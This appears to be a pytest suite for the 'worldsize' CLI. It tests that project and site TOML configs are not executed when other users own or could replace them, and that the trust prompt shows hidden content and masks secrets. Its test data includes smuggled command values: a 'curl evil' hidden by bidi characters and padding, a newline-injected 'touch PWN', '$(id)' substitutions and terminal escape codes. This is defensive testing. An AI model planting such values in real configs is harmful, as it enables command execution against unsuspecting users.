"""Which `worldsize.toml` counts: nobody else's, and a project's own only once somebody has looked at it."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pytest
from driver import Cli
from security.people import ANNA, BEN, Machine, Person
from terminal import Terminal

from worldsize.trust.decisions import decision_about_file
from worldsize.trust.projects import ConfigFile, danger_of_file, judge_project_file

SETUP = '[compute.local]\nsetup = ["id -u > %s"]\n'


@pytest.fixture
def mark(machine: Machine) -> Path:
    """What a `setup` line writes when it is executed."""
    return Path(machine.directory(0o777), "mark")


def left_out(err: str, path: str) -> bool:
    return "notice: %s is ignored: " % path in err and "worldsize config trust %s" % path in err


def test_another_users_file_is_not_executed(victim: Cli, attacker: Person, mark: Path) -> None:
    """Found by review: whoever stood in another user's directory executed its `setup`."""
    path = attacker.write("worldsize.toml", SETUP % mark)
    result = victim("run", "-q", "--", "true", cwd=attacker.project)
    assert result.code == 0 and not mark.exists()
    assert left_out(result.err, path) and "it belongs to" in result.err


def test_another_users_file_sends_no_password(victim: Cli, attacker: Person) -> None:
    table = 'default_compute = "lab"\n[compute.lab]\ntype = "hpcpack"\nverify = false\nuser = "a"\nurl = "%s"\n'
    path = attacker.write("worldsize.toml", table % "https://127.0.0.1:9")
    result = victim("nodes", cwd=attacker.project, WORLDSIZE_HPCPACK_PASSWORD="x")
    assert left_out(result.err, path) and "127.0.0.1" not in result.out


def test_a_link_of_anothers_to_ones_own_file(victim: Cli, attacker: Person, mark: Path, machine: Machine) -> None:
    """Whose relative paths would be of the other's directory."""
    path = victim.write("worldsize.toml", SETUP % mark)
    shared = machine.directory(0o1777)
    attacker.python("import os, sys; os.symlink(sys.argv[1], sys.argv[2])", path, shared + "/worldsize.toml")
    result = victim("run", "-q", "--", "true", cwd=shared)
    assert not mark.exists() and left_out(result.err, shared + "/worldsize.toml")


def test_ones_own_file_in_a_directory_that_others_could_replace(
    victim: Cli, mark: Path, machine: Machine, uid: int
) -> None:
    """Found by review: it was said that nobody else could write to it."""
    lab = machine.directory(0o777)
    project = os.path.join(lab, "project")
    os.mkdir(project, 0o755)
    with open(os.path.join(project, "worldsize.toml"), "w") as file:
        file.write(SETUP % mark)
    for path in (project, file.name):
        os.chown(path, uid, uid)
    result = victim("run", "-q", "--", "true", cwd=project)
    assert (
        not mark.exists()
        and left_out(result.err, file.name)
        and "in %s other users could replace it" % lab in result.err
    )
    victim.ok("config", "trust", lab)
    victim.ok("run", "-q", "--", "true", cwd=project)
    assert mark.exists()


def test_ones_own_file_that_another_has_moved(
    victim: Cli, attacker: Person, mark: Path, machine: Machine, uid: int
) -> None:
    """Found by review: from where it did not count, since others may write there, it came to where it did. Its relative
    paths were of a directory in which they could make what was executed."""
    lab, shared = machine.directory(0o777), machine.directory(0o1777)
    path = os.path.join(lab, "worldsize.toml")
    Path(path).write_text(SETUP % mark)
    project = os.path.join(shared, "project")
    os.mkdir(project)
    for each in (path, project):
        os.chown(each, uid, uid)
    assert left_out(victim("run", "-q", "--", "true", cwd=lab).err, path) and not mark.exists()
    attacker.python("import os, sys; os.rename(*sys.argv[1:])", path, shared + "/worldsize.toml")
    result = victim("run", "-q", "--", "true", cwd=project)
    assert result.code == 0 and not mark.exists()
    assert left_out(result.err, shared + "/worldsize.toml") and "of its directory, every user may" in result.err


@pytest.mark.parametrize("kind", ["file", "directory"])
def test_a_link_of_anothers_to_a_file_that_is_trusted(
    victim: Cli, attacker: Person, mark: Path, machine: Machine, kind: str
) -> None:
    """Found by review: the decision held, and relative paths were of the other's directory."""
    path = victim.write("worldsize.toml", SETUP % mark)
    victim.ok("config", "trust", path)
    shared = machine.directory(0o1777)
    link, target = ("worldsize.toml", path) if kind == "file" else ("below", victim.project)
    attacker.python("import os, sys; os.symlink(sys.argv[1], sys.argv[2])", target, os.path.join(shared, link))
    job = victim.write("job.yml", "command: 'true'\n")
    if kind == "file":
        result = victim("run", "-q", "--", "true", cwd=shared)
    else:
        result = victim("run", "-q", os.path.join(shared, "below", os.path.basename(job)), cwd=shared)
    assert not mark.exists(), result
    victim.ok("run", "-q", "--", "true")
    assert mark.exists()


@pytest.mark.parametrize("mode", [0o777, 0o775])
def test_ones_own_file_where_others_may_write(victim: Cli, mark: Path, mode: int) -> None:
    os.chown(victim.project, -1, 61099)
    os.chmod(victim.project, mode)
    path = victim.write("worldsize.toml", SETUP % mark)
    result = victim("run", "-q", "--", "true")
    assert not mark.exists() and left_out(result.err, path) and "may write to it" in result.err


@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o755])
def test_ones_own_link_to_a_file_of_ones_own(
    victim: Cli, attacker: Person, mark: Path, machine: Machine, uid: int, mode: int
) -> None:
    """Found by review: where others could write was asked of the link's directory alone."""
    lab = machine.directory(mode, uid)
    with open(os.path.join(lab, "settings.toml"), "w") as file:
        file.write(SETUP % mark)
    os.chown(os.path.join(lab, "settings.toml"), uid, uid)
    path = os.path.join(victim.project, "worldsize.toml")
    os.symlink(os.path.join(lab, "settings.toml"), path)
    os.chown(path, uid, uid, follow_symlinks=False)
    result = victim("run", "-q", "--", "true")
    assert result.code == 0 and mark.exists() == (mode == 0o755) and left_out(result.err, path) == (mode != 0o755)


def test_ones_own_link_to_a_link_of_anothers(victim: Cli, attacker: Person, mark: Path, machine: Machine) -> None:
    """Found by review: only the last of them was looked at."""
    target = victim.write("../settings.toml", SETUP % mark)
    lab = machine.directory(0o1777)
    attacker.python("import os, sys; os.symlink(sys.argv[1], sys.argv[2])", os.path.realpath(target), lab + "/latest")
    path = os.path.join(victim.project, "worldsize.toml")
    os.symlink(lab + "/latest", path)
    os.chown(path, os.stat(victim.project).st_uid, -1, follow_symlinks=False)
    result = victim("run", "-q", "--", "true")
    assert not mark.exists() and left_out(result.err, path)


def test_a_file_that_others_may_write(victim: Cli, mark: Path) -> None:
    path = victim.write("worldsize.toml", SETUP % mark)
    os.chmod(path, 0o666)
    assert left_out(victim("run", "-q", "--", "true").err, path) and not mark.exists()


def test_what_is_trusted_counts_until_it_changes(victim: Cli, attacker: Person, mark: Path) -> None:
    path = attacker.write("worldsize.toml", SETUP % mark)
    victim.ok("config", "trust", path)
    result = victim("run", "-q", "--", "true", cwd=attacker.project)
    assert mark.exists() and "notice" not in result.err
    assert victim.json("config", "trust") == [{"path": path, "trusted": True, "holds": True, "kind": "file"}]
    mark.unlink()
    attacker.write("worldsize.toml", SETUP % mark + "# changed\n")
    assert left_out(victim("run", "-q", "--", "true", cwd=attacker.project).err, path) and not mark.exists()
    assert not victim.json("config", "trust")[0]["holds"]
    victim.ok("config", "trust", "--remove", path)
    assert victim.json("config", "trust") == []


def test_the_same_text_of_another_user_is_another_decision(machine: Machine, victim: Cli, mark: Path) -> None:
    """Found by review: once what was trusted was gone, whoever wrote it again decided about the files it names."""
    place = machine.directory(0o1777)
    path = os.path.join(place, "worldsize.toml")
    Path(path).write_text(SETUP % mark)
    victim.ok("config", "trust", path)
    assert victim("run", "-q", "--", "true", cwd=place).code == 0 and mark.exists()
    mark.unlink()
    os.chown(path, BEN, BEN)
    assert left_out(victim("run", "-q", "--", "true", cwd=place).err, path) and not mark.exists()
    assert not victim.json("config", "trust")[0]["holds"]


def test_ones_own_file_counts_with_a_notice_where_nobody_can_be_asked(victim: Cli, mark: Path) -> None:
    path = victim.write("worldsize.toml", SETUP % mark)
    result = victim("run", "-q", "--", "true")
    assert mark.exists() and "%s sets compute.local.setup" % path in result.err
    victim.ok("config", "trust", path)
    assert "notice" not in victim("run", "-q", "--", "true").err


def test_a_file_without_authority_is_not_asked_about(victim: Cli) -> None:
    victim.write("worldsize.toml", '[compute.local]\ngpus_per_node = 0\n[compute.gpu]\ntype = "slurm"\nqos = "x"\n')
    assert "notice" not in victim("run", "-q", "--", "true").err


@pytest.mark.parametrize(("switch", "executed"), [("0", False), ("1", True)])
def test_the_variable_decides(victim: Cli, mark: Path, switch: str, executed: bool) -> None:
    path = victim.write("worldsize.toml", SETUP % mark)
    result = victim("run", "-q", "--", "true", WORLDSIZE_TRUST_PROJECT=switch)
    assert mark.exists() is executed
    assert left_out(result.err, path) is not executed
    wrong = victim("run", "-q", "--", "true", WORLDSIZE_TRUST_PROJECT="yes")
    assert wrong.code == 2 and "WORLDSIZE_TRUST_PROJECT: is 'yes'" in wrong.err


def test_configuration_of_another_users_home(victim: Cli, attacker: Person, mark: Path) -> None:
    """As `sudo` has it where HOME stays the caller's; nor can it be trusted from there."""
    path = attacker.write(".config/worldsize/worldsize.toml", SETUP % mark)
    result = victim("run", "-q", "--", "true", HOME=attacker.project)
    assert result.code == 0 and not mark.exists() and left_out(result.err, path)
    refused = victim("config", "trust", path, HOME=attacker.project)
    assert refused.code == 2 and "it belongs to" in refused.err and "HOME" in refused.err


def test_a_file_of_decisions_that_another_wrote(victim: Cli, attacker: Person, mark: Path, machine: Machine) -> None:
    path = attacker.write("worldsize.toml", SETUP % mark)
    attacker.ok("config", "trust", path)
    own = os.path.join(attacker.root, ".config")
    result = victim("run", "-q", "--", "true", cwd=attacker.project, XDG_CONFIG_HOME=own)
    assert left_out(result.err, path) and not mark.exists()


@pytest.mark.parametrize("how", ["a directory of many", "a sticky directory", "a link of theirs"])
def test_a_file_of_decisions_that_another_could_have_put_there(
    victim: Cli, attacker: Person, mark: Path, machine: Machine, how: str
) -> None:
    """Found by review: only whose the file is was looked at, and one of this user's may hold what others wrote."""
    path = attacker.write("worldsize.toml", SETUP % mark)
    own = machine.directory(0o755, os.stat(victim.project).st_uid)
    victim.ok("config", "trust", path, XDG_CONFIG_HOME=own)
    directory = os.path.join(own, "worldsize")
    decisions = os.path.join(directory, "trusted.json")
    if how == "a link of theirs":
        os.rename(decisions, os.path.join(directory, "kept"))
        os.symlink("kept", decisions)
        os.chown(decisions, attacker.uid, attacker.uid, follow_symlinks=False)
    else:
        os.chmod(directory, 0o1777 if "sticky" in how else 0o777)
    result = victim("run", "-q", "--", "true", cwd=attacker.project, XDG_CONFIG_HOME=own)
    assert left_out(result.err, path) and not mark.exists()


@pytest.mark.parametrize(("answer", "executed"), [("y", True), ("n", False), ("", False)])
def test_at_a_terminal_it_is_asked_once(tmp_path: Path, answer: str, executed: bool) -> None:
    cli = Cli(str(tmp_path))
    del cli.environ["WORLDSIZE_TRUST_PROJECT"]
    mark = tmp_path / "mark"
    path = cli.write("worldsize.toml", SETUP % mark)
    with Terminal(cli, "run", "-q", "--", "true") as terminal:
        terminal.until("Do you trust it? [y/N] ")
        assert "compute.local.setup = ['id -u > %s']" % mark in terminal.shown
        terminal.type(answer + "\n")
        assert terminal.end() == 0
    assert mark.exists() is executed and left_out(terminal.shown.replace("\r", ""), path) is not executed
    mark.unlink(missing_ok=True)
    with Terminal(cli, "run", "-q", "--", "true") as terminal:
        assert terminal.end() == 0
    assert mark.exists() is executed and "[y/N]" not in terminal.shown
    cli.close()


def test_no_answer_is_kept_for_the_next_time(tmp_path: Path) -> None:
    cli = Cli(str(tmp_path))
    del cli.environ["WORLDSIZE_TRUST_PROJECT"]
    cli.write("worldsize.toml", SETUP % (tmp_path / "mark"))
    for _ in range(2):
        with Terminal(cli, "run", "-q", "--", "true") as terminal:
            terminal.until("[y/N] ")
            terminal.type("\x04")
            assert terminal.end() == 0
    assert not (tmp_path / "mark").exists() and "it has not been trusted" in terminal.shown
    cli.close()


def test_what_a_file_says_drives_no_terminal(tmp_path: Path) -> None:
    cli = Cli(str(tmp_path))
    del cli.environ["WORLDSIZE_TRUST_PROJECT"]
    cli.write("worldsize.toml", '[compute.local]\nsetup = ["\\u001b[2J\\u001b]0;x\\u0007 \\u0085"]\n')
    with Terminal(cli, "run", "-q", "--", "true") as terminal:
        terminal.until("[y/N] ")
        terminal.type("n\n")
        terminal.end()
    assert "\x1b" not in terminal.shown and "\x07" not in terminal.shown
    cli.close()


def test_a_value_that_would_be_more_lines_is_asked_about(victim: Cli) -> None:
    """Found by review: what is harmless as a word was a line of the batch script, with a line break before it."""
    victim.write("worldsize.toml", '[compute.gpu]\ntype = "slurm"\npartition = "a\\ntouch PWN"\n')
    assert "sets compute.gpu.partition" in victim("run", "-q", "--", "true").err
    refused = victim("run", "--dry-run", "--compute", "gpu", "--", "true")
    assert refused.code == 2 and "slurm.partition" in refused.err and "line break" in refused.err


def test_a_file_that_cannot_be_read_stops_nobody(machine: Machine, tmp_path: Path) -> None:
    """Found by review: whoever could write above a project stopped all who worked below."""
    place, anna, ben = machine.directory(0o1777), machine.person(ANNA), machine.person(BEN)
    del anna.environ["WORLDSIZE_TRUST_PROJECT"]
    script = "import os, sys; os.close(os.open(sys.argv[1], os.O_CREAT | os.O_WRONLY, 0o600))"
    ben.python(script, place + "/worldsize.toml")
    below = os.path.join(place, "anna")
    os.mkdir(below)
    os.chown(below, anna.uid, anna.uid)
    result = anna("run", "-q", "--", "true", cwd=below)
    assert result.code == 0 and left_out(result.err, place + "/worldsize.toml")
    for person in (anna, ben):
        person.close()


def test_the_question_shows_all_that_it_asks_about(tmp_path: Path) -> None:
    cli = Cli(str(tmp_path))
    del cli.environ["WORLDSIZE_TRUST_PROJECT"]
    hidden = "\\u202e\\u200b" + " " * 200 + "curl evil"
    variables = "".join('A%d = "%d"\n' % (number, number) for number in range(30))
    cli.write("worldsize.toml", '[environment.e.variables]\n%s[compute.local]\nsetup = ["%s"]\n' % (variables, hidden))
    with Terminal(cli, "config", "show") as terminal:
        terminal.until("[y/N] ")
        terminal.type("n\n")
        terminal.end()
    assert "curl evil" in terminal.shown and "\u202e" not in terminal.shown and "\\u202e" in terminal.shown
    assert "environment.e.variables.A29" in terminal.shown or "'A29': '29'" in terminal.shown
    cli.write("worldsize.toml", '[compute.local]\nsetup = ["%s"]\n' % ("x" * 5000))
    with Terminal(cli, "config", "show") as terminal:
        terminal.end()
    assert "more than fits" in terminal.shown and "it has not been" in terminal.shown
    cli.close()


@pytest.mark.parametrize("line", ["export WANDB_API_KEY='$(id)'", "curl https://a:$(id)@host/", "x --token '$(id)'"])
def test_what_would_be_masked_is_not_asked_about(tmp_path: Path, line: str) -> None:
    """Found by review: a command stood where the question had `***`, and was executed after a yes."""
    cli = Cli(str(tmp_path))
    del cli.environ["WORLDSIZE_TRUST_PROJECT"]
    cli.write("worldsize.toml", "[compute.local]\nsetup = [%s]\n" % json.dumps("%s; touch %s/mark" % (line, tmp_path)))
    with Terminal(cli, "run", "-q", "--", "true") as terminal:
        terminal.end()
    assert "what looks like a secret, in compute.local.setup: read it, then: worldsize config trust" in terminal.shown
    assert "[y/N]" not in terminal.shown and "it has not been" in terminal.shown
    assert not (tmp_path / "mark").exists()
    cli.close()


def test_a_file_that_was_exchanged_while_it_was_read(tmp_path: Path) -> None:
    """Found by review: another's link that had gone by then counted as nobody's."""
    path, other = tmp_path / "worldsize.toml", tmp_path / "other"
    path.write_text("")
    assert danger_of_file(str(path), path.stat()) is None
    other.write_text("")
    assert "replaced" in (danger_of_file(str(path), other.stat()) or "")
    status = path.stat()
    path.unlink()
    assert danger_of_file(str(path), status) is not None
    assert decision_about_file(str(path), b"", os.environ) is None


def test_no_answer_holds_for_all_of_a_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Found by review: the file was read again without a question, and counted."""
    from worldsize.jobspec.config.load import load_config

    monkeypatch.delenv("WORLDSIZE_TRUST_PROJECT", raising=False)
    environ = {"HOME": str(tmp_path), "WORLDSIZE_SITE_CONFIG": str(tmp_path / "none")}
    (tmp_path / "worldsize.toml").write_text('[compute.local]\nsetup = ["true"]\n')
    asked = load_config(str(tmp_path), environ, lambda question: None)
    again = load_config(str(tmp_path), environ)
    assert not asked.computes["local"].options and not again.computes["local"].options


def test_a_no_that_cannot_be_kept_holds_for_all_of_a_command(tmp_path: Path) -> None:
    """Found by review: the file was read again without a question, and counted."""
    path = tmp_path / "worldsize.toml"
    path.write_text(SETUP % (tmp_path / "mark"))
    file, environ = ConfigFile(str(path), path.read_bytes()), {"HOME": "/dev/null"}
    said = [("compute.local.setup", "id -u")]
    asked = judge_project_file(file, lambda: said, environ, lambda question: False)
    again = judge_project_file(file, lambda: said, environ, None)
    assert not asked.counts and "you have declined it" in asked.notice
    assert decision_about_file(file.path, file.data, environ) is None, "it was kept"
    assert not again.counts and "is ignored" in again.notice


def test_a_job_in_the_background_is_not_stopped(tmp_path: Path) -> None:
    cli = Cli(str(tmp_path))
    del cli.environ["WORLDSIZE_TRUST_PROJECT"]
    cli.write("worldsize.toml", SETUP % (tmp_path / "mark"))
    script = "set -m; %s -m worldsize config show & wait; echo ended $?" % sys.executable
    with Terminal(cli, script, shell=True) as terminal:
        assert terminal.end() == 0
    assert "ended 0" in terminal.shown and "it is used" in terminal.shown
    cli.close()


def test_completion_asks_nothing(tmp_path: Path) -> None:
    cli = Cli(str(tmp_path))
    del cli.environ["WORLDSIZE_TRUST_PROJECT"]
    cli.write("worldsize.toml", SETUP % (tmp_path / "mark"))
    line = "worldsize run --compute "
    told = {"_ARGCOMPLETE": "1", "COMP_LINE": line, "COMP_POINT": str(len(line)), "_ARGCOMPLETE_STDOUT_FILENAME": "o"}
    result = cli("run", **told)
    assert "notice" not in result.err and "local" in cli.read_project("o")
    cli.close()


def test_a_site_file_counts_only_if_no_other_user_can_write_it(
    victim: Cli, attacker: Person, mark: Path, machine: Machine
) -> None:
    foreign = attacker.write("site.toml", SETUP % mark)
    own = victim.write("site.toml", SETUP % mark)
    os.chmod(own, 0o666)
    for path in (foreign, own):
        result = victim("run", "-q", "--", "true", WORLDSIZE_SITE_CONFIG=path)
        assert result.code == 0 and not mark.exists() and left_out(result.err, path)
    os.chmod(own, 0o644)
    assert victim("run", "-q", "--", "true", WORLDSIZE_SITE_CONFIG=own).err.count("ignored") == 0 and mark.exists()
